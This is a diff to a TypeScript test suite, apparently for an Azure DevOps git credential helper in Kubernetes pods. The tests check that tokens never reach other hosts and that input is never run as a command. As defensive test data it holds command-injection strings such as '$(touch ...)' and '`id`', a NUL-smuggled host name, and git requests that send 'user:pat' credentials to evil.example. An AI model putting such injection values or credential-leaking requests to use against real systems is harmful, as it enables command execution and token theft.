@@ -1,25 +1,37 @@
-/** What must not happen: a token elsewhere, words acted upon, a prompt, a token in the user's home. */
-import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { setTimeout as sleep } from 'node:timers/promises';
+/** What must not happen: a token for another host, text that is run as a command, a prompt, a token in the user's home. */
+import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import t from 'tap';
 import type { RunningPod } from '../../src/emulators/index.js';
 import { injectPod, STANDARD_DEFAULTS } from '../../src/inject/index.js';
 import { ANNOTATION, USE_LABEL } from '../../src/names.js';
-import { askHelper, BUILDER, git, gitOk, makeWorld, PAYMENTS, STRANGER } from '../support/git-fixture.js';
+import {
+  askHelper,
+  BUILDER,
+  git,
+  gitOk,
+  NEWCOMER,
+  PAYMENTS,
+  startGitFixture,
+  STRANGER,
+} from '../support/git-fixture.js';
+import { withDeadline } from '../support/wait.js';
 
-const world = await makeWorld(t);
-const { azureDevOps, trap } = world.azure;
-const pod = await world.startPod();
+const { azure, startPod } = await startGitFixture(t);
+const { azureDevOps, trap } = azure;
+const pod = await startPod();
 
-/** `GIT_ASKPASS` that leaves a trace and gives an answer. */
+/** Records whether git asks for a password, which it then gets: 'answer'. */
 function watchPrompts(of: RunningPod): { readonly env: Record<string, string>; readonly asked: () => boolean } {
   const script = of.locate('/data/askpass');
   writeFileSync(script, `#!/bin/sh\necho "$1" >>"$0.asked"\necho answer\n`);
   chmodSync(script, 0o755);
-  return { env: { GIT_ASKPASS: script, SSH_ASKPASS: script }, asked: () => existsSync(`${script}.asked`) };
+  const trace = `${script}.asked`;
+  rmSync(trace, { force: true });
+  return { env: { GIT_ASKPASS: script, SSH_ASKPASS: script }, asked: () => existsSync(trace) };
 }
 
-function listGiven(): string[] {
+/** Requests that carried a secret to a host that must never get one. */
+function listLeaks(): string[] {
   return trap.requests.filter(({ gotSecret }) => gotSecret).map(({ request }) => request);
 }
 
@@ -41,10 +53,10 @@ void t.test('no token for another host, scheme or port', async (t) => {
     const before = trap.requests.length;
     const { code } = await git(pod, ['ls-remote', url]);
     t.not(code, 0, url);
-    if (url.endsWith(':443/contoso/payments/_git/api')) continue; // Plain HTTP to a TLS port ends before a request.
-    t.ok(trap.requests.length > before, 'the request came to the other host');
+    if (url.endsWith(':443/contoso/payments/_git/api')) continue; // Plain HTTP to a TLS port fails before there is a request.
+    t.ok(trap.requests.length > before, 'the request reached the other host');
   }
-  t.strictSame(listGiven(), []);
+  t.strictSame(listLeaks(), []);
 });
 
 void t.test('no token after a redirect', async (t) => {
@@ -76,11 +88,11 @@ void t.test('no token after a redirect', async (t) => {
       request.startsWith('GET https://evil.example/contoso/payments/_git/api/info/refs'),
     ),
   );
-  t.strictSame(listGiven(), []);
+  t.strictSame(listLeaks(), []);
 });
 
-void t.test('no token for another organization where they are limited', async (t) => {
-  const limited = await world.startPod({ annotations: { [ANNOTATION.organizations]: 'contoso' } });
+void t.test('no token for other organizations, where the annotation limits them', async (t) => {
+  const limited = await startPod({ annotations: { [ANNOTATION.organizations]: 'contoso' } });
   await gitOk(t, limited, ['ls-remote', 'https://dev.azure.com/Contoso/payments/_git/api']);
   await gitOk(t, limited, ['ls-remote', 'https://CONTOSO.visualstudio.com/payments/_git/api']);
   const before = azureDevOps.requests.length;
@@ -105,7 +117,7 @@ void t.test('no token for another organization where they are limited', async (t
     'ls-remote',
     PAYMENTS,
   ]);
-  t.equal(code, 128, 'without a path the organization is not known');
+  t.equal(code, 128, 'without a path the organization is unknown');
   t.match(stderr, 'these organizations only: contoso');
   const given = azureDevOps.requests.slice(before).filter(({ tokenDigest }) => tokenDigest !== undefined);
   t.strictSame(
@@ -122,7 +134,7 @@ function formatQuestion(fields: Readonly<Record<string, string>>): string {
     .join('')}\n`;
 }
 
-void t.test('what the helper refuses, with one sentence and quit', async (t) => {
+void t.test('the helper refuses questions, each with one sentence and quit', async (t) => {
   const cases: Record<string, string>[] = [
     { ...GOOD, protocol: 'http' },
     { ...GOOD, protocol: 'HTTPS' },
@@ -156,7 +168,7 @@ void t.test('what the helper refuses, with one sentence and quit', async (t) => 
     { ...GOOD, host: 'DEV.Azure.com:443' },
     { ...GOOD, host: 'contoso.VisualStudio.com' },
   ]) {
-    t.match((await askHelper(pod, formatQuestion(fields))).stdout, /^username=/, 'and what it does not refuse');
+    t.match((await askHelper(pod, formatQuestion(fields))).stdout, /^username=/, `${fields.host} is not refused`);
   }
 });
 
@@ -174,7 +186,7 @@ const PAYLOADS = (mark: string): string[] => [
   `-n`,
 ];
 
-void t.test('nothing from a URL is acted upon', async (t) => {
+void t.test('no text of a URL is run as a command', async (t) => {
   const mark = pod.locate('/data/mark');
   for (const payload of PAYLOADS(mark)) {
     const url = `https://${encodeURI(payload)}@dev.azure.com/contoso/${payload}/_git/${payload}`;
@@ -189,10 +201,10 @@ void t.test('nothing from a URL is acted upon', async (t) => {
   const { stdout } = await askHelper(pod, `protocol=https\nhost=dev.azure.com\0.evil.example\npath=x\n\n`);
   t.not(existsSync(mark), true);
   t.equal(stdout, 'quit=1\n', 'NUL');
-  t.strictSame(listGiven(), []);
+  t.strictSame(listLeaks(), []);
 });
 
-void t.test('nothing from an annotation is acted upon', async (t) => {
+void t.test('no text of an annotation is run as a command', async (t) => {
   const closed = [ANNOTATION.organizations, ANNOTATION.gitConfig, ANNOTATION.startup, ANNOTATION.logLevel];
   const cases = [
     ...PAYLOADS('mark').flatMap((payload) => closed.map((key) => [key, payload] as const)),
@@ -212,17 +224,17 @@ void t.test('nothing from an annotation is acted upon', async (t) => {
     });
     t.match(outcome, { kind: 'refused', answer: 'deny' }, `${key}: ${JSON.stringify(value)}`);
   }
-  // What is a good name to Azure DevOps may still mean something to a shell or to git.
+  // A valid project name of Azure DevOps, with characters that a shell or git could interpret.
   const project = "`touch mark` & it's (a) %41 !x ~";
-  const odd = await world.startPod({ annotations: { [ANNOTATION.projects]: `contoso/${project}` } });
+  const odd = await startPod({ annotations: { [ANNOTATION.projects]: `contoso/${project}` } });
   const listing = await gitOk(t, odd, ['config', '--list']);
   t.ok(listing.includes(`url.https://dev.azure.com/contoso/${encodeURIComponent(project)}/_git/.insteadof=`), listing);
   await gitOk(t, odd, ['ls-remote', PAYMENTS]);
   t.strictSame(readdirSync(odd.locate('/data')), []);
 });
 
-void t.test('nothing from the sidecar is acted upon', async (t) => {
-  const odd = await world.startPod();
+void t.test('no text of the sidecar is run as a command', async (t) => {
+  const odd = await startPod();
   await gitOk(t, odd, ['ls-remote', PAYMENTS]);
   const message = `$(touch ${odd.locate('/data/mark')}) \`id\` %s \\n "'`;
   writeFileSync(odd.locate('/var/run/ado-git/state'), `state=failed\nmessage=${message}\n`);
@@ -231,8 +243,14 @@ void t.test('nothing from the sidecar is acted upon', async (t) => {
   t.strictSame(readdirSync(odd.locate('/data')), []);
 });
 
-void t.test('without a token git ends at once, and asks nobody', async (t) => {
-  const stranger = await world.startPod({ identity: STRANGER });
+void t.test('git asks for a password where no helper answers, and the test sees it', async (t) => {
+  const prompts = watchPrompts(pod);
+  await git(pod, ['-c', 'credential.https://dev.azure.com.helper=', 'ls-remote', PAYMENTS], { env: prompts.env });
+  t.ok(prompts.asked());
+});
+
+void t.test('without a token git ends at once, and asks for no password', async (t) => {
+  const stranger = await startPod({ identity: STRANGER });
   const prompts = watchPrompts(stranger);
   const { code, stderr } = await git(stranger, ['ls-remote', PAYMENTS], { env: prompts.env });
   t.equal(code, 128);
@@ -240,7 +258,7 @@ void t.test('without a token git ends at once, and asks nobody', async (t) => {
   t.notOk(prompts.asked());
 });
 
-void t.test('a token that Azure DevOps does not take ends git, asks nobody, and stays', async (t) => {
+void t.test('a token that Azure DevOps refuses ends git without a question for a password, and stays', async (t) => {
   const prompts = watchPrompts(pod);
   const cases: [string, number, string[]][] = [
     ['Authentication failed', 401, ['ls-remote', PAYMENTS]],
@@ -268,15 +286,19 @@ void t.test('a token that Azure DevOps does not take ends git, asks nobody, and 
 });
 
 void t.test('a wrong password in the URL ends git without a wait', async (t) => {
-  const prompts = watchPrompts(pod);
+  // There is no token yet. A helper that waits for one, when git calls it to erase the password, ends with a message.
+  const waiting = await startPod({ identity: NEWCOMER });
+  const prompts = watchPrompts(waiting);
   const url = PAYMENTS.replace('https://', 'https://user:pat@');
-  const ended = git(pod, ['ls-remote', url], { env: prompts.env });
-  const { code } = await Promise.race([ended, sleep(20_000, { code: 'hangs' })]);
+  const ended = git(waiting, ['ls-remote', url], { env: prompts.env });
+  const { code, stderr } = await withDeadline('git ends', ended, { withinSeconds: 90 });
   t.equal(code, 128);
+  t.match(stderr, 'Authentication failed');
+  t.notMatch(stderr, 'ado-git-identity: ');
   t.notOk(prompts.asked());
 });
 
-void t.test("a storing helper of the user's gets no token of ours, and keeps its other hosts", async (t) => {
+void t.test("the user's own helper that stores gets no token of ours, and still serves other hosts", async (t) => {
   writeFileSync(pod.locate('/home/.gitconfig'), '[credential]\n\thelper = store\n\thelper = cache\n');
   await gitOk(t, pod, ['clone', PAYMENTS, 'stored']);
   const input = 'protocol=https\nhost=dev.azure.com\nusername=x\npassword=y\n\n';
@@ -288,4 +310,10 @@ void t.test("a storing helper of the user's gets no token of ours, and keeps its
     input: github,
   });
   t.match(readFileSync(pod.locate('/home/.git-credentials'), 'utf8'), 'github.com');
+});
+
+void t.test('the test sees a secret that reaches another host', async (t) => {
+  t.strictSame(listLeaks(), []);
+  await git(pod, ['ls-remote', 'https://user:pat@evil.example/contoso/payments/_git/api']);
+  t.ok(listLeaks().length > 0);
 });
